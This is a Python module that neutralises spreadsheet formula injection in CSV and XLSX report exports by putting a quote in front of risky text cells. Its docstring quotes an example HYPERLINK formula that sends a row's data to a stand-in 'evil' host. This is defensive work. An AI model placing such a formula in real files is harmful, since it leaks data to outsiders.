"""Text that a spreadsheet would run as a formula, made inert before it goes into a CSV or XLSX download.

Agencies write obstacles, narratives and evidence into their reports, and file names come from whoever
sent the file. Excel, LibreOffice and Google Sheets treat a CSV field (and a typed cell) that starts
with ``=``, ``+``, ``-`` or ``@`` as a formula, and strip a leading tab or carriage return before doing
so: ``=HYPERLINK("http://evil/?"&A1;"Klicka")`` in ``obstacles.csv`` would send the row to a stranger
when an analyst opens the file. The OWASP rule (CSV Injection) is to prefix such a text with a single
quote, which every spreadsheet shows as the text itself; ``neutralise`` does that.

Numbers stay numbers: an int or a float is returned as it is, and a text that is a plain number
(``-3.5``, ``-12``, ``-0,8``) is left alone too, because a spreadsheet reads it as that number and
nothing else. The full-width forms of the four characters are included, since some spreadsheets
normalise them. Leading spaces are looked through (``"  =1+1"`` is neutralised as well).

Every CSV and XLSX writer applies this to its text cells: ``reports.site`` (indicator, provenance and
sources CSVs), ``reports.programme`` (the programme CSVs), ``reports.workbook`` (the workbooks).
"""

from __future__ import annotations

import re

import pandas as pd

PREFIX = "'"
_TRIGGERS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")


def is_live(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (a plain number is no formula)."""
    if not text:
        return False
    if _PLAIN_NUMBER.fullmatch(text.strip()):
        return False
    if text[0] in _TRIGGERS:
        return True
    stripped = text.lstrip(" \u00a0")
    return bool(stripped) and stripped[0] in _TRIGGERS


def neutralise(value: object) -> object:
    """``value`` with a ``'`` in front when it is text a spreadsheet would run; anything else unchanged."""
    if isinstance(value, str) and is_live(value):
        return PREFIX + value
    return value


def neutralise_row(values: list[object] | tuple[object, ...]) -> list[object]:
    """``neutralise`` over one row of cells (for ``csv.writer.writerow``)."""
    return [neutralise(value) for value in values]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells are neutralised; numeric columns are not touched."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_numeric_dtype(series) or pd.api.types.is_bool_dtype(series):
            continue
        if pd.api.types.is_datetime64_any_dtype(series):
            continue
        out[column] = series.map(neutralise)
    return out


class _SafeWriter:
    """A ``csv.writer`` whose every row passes ``neutralise_row`` first."""

    def __init__(self, writer) -> None:
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow(neutralise_row(list(row)))

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(out, **options: object) -> _SafeWriter:
    """``csv.writer(out, **options)`` that neutralises every text cell it writes."""
    import csv

    return _SafeWriter(csv.writer(out, **options))
